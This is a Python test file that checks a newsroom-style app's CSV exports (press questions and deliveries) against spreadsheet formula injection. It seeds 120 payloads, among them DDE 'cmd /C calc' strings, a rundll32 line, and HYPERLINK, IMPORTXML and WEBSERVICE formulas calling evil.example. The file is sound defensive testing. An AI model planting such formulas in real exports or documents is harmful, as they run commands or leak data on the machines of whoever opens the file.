"""B7: formulas in every field that strangers and colleagues fill, in the exports of press and deliveries."""

from __future__ import annotations

import csv
import io
from itertools import product

import pytest

from answerable.store import channels, press
from answerable.store.models import Delivery, PressQuestion
from tests.cast import Desk
from tests.run.test_sender import channel
from tests.store.scene import draft, publish
from tests.web import stage

STARTS = ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
BODIES = (
    "1+1", "HYPERLINK(\"https://evil.example\",\"x\")", "cmd|' /C calc'!A0", "SUM(A1:A9)*cmd|' /C calc'!A0",
    "IMPORTXML(\"https://evil.example\",\"//a\")", "WEBSERVICE(\"https://evil.example\")", "DDE(\"cmd\";\"/C calc\")",
    "rundll32|'URL.dll,OpenURL evil'!A", "INDIRECT(\"A1\")", "1;=1+1",
)  # fmt: skip
PAYLOADS = ["".join(pair) for pair in product(STARTS, BODIES)]
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


@pytest.mark.deep
def test_no_formula_lives_in_an_export(desk: Desk) -> None:
    """120 payloads as outlet, question, channel and title: every cell of every file is text, and says it all.

    Sabotage: return the cell as it is from `harmless`.
    """
    assert len(PAYLOADS) == 120
    channel(desk, channels.ASSISTED)
    title = PAYLOADS[1]
    made = publish(desk, draft(desk, title=title, text="x"))
    row = Delivery.objects.get()
    for number, payload in enumerate(PAYLOADS):
        asked = press.ask(
            desk.carol, unit=desk.top, outlet="x", text="x", due_at=stage.LATER, now=desk.now
        )  # fmt: skip
        # Past every cleaning on the way in: what leaves must be harmless whatever stands in a row.
        PressQuestion.objects.filter(pk=asked.pk).update(outlet=payload, text=payload)
        Delivery.objects.create(
            version=made, channel=row.channel, voice=row.voice, language=f"x{number}", key=f"{payload} {number}",
            made_at=desk.now, due_at=desk.now, trouble=payload[:200],
        )  # fmt: skip
    carol, cells = stage.client(desk.carol), list[str]()
    with stage.clock():
        for path in ("press.csv", "deliveries.csv?state=all"):
            answer = carol.get(f"/desk/{path}")
            assert answer.status_code == 200, path
            text = b"".join(answer.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
            cells += [cell for one in csv.reader(io.StringIO(text, newline="")) for cell in one]
    assert [cell for cell in cells if cell.lstrip(" ").startswith(LIVE)] == []
    held = "\0".join(cells)
    assert [payload for payload in PAYLOADS if payload not in held] == []
